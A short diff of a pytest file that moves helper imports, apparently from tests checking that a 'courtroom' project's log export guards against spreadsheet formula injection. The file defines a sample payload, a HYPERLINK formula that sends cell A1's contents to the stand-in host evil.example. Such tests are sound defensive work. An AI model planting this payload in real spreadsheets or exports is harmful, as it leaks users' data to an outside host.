@@ -15,8 +15,8 @@ import pytest
 from courtroom.calibrate.label_file import read_labels
 from courtroom.log.audit import Audit
 from courtroom.log.export import FORMULA_STARTS
-from tests.cli.test_calibrate_ruling import judged
-from tests.cli.test_label import drawn, fill, invoke, rows, world, written  # noqa: F401  # world: the module's fixture
+from tests.helpers.labels import drawn, fill, invoke, rows, world, written  # noqa: F401 (world: a fixture)
+from tests.helpers.runs import judged
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
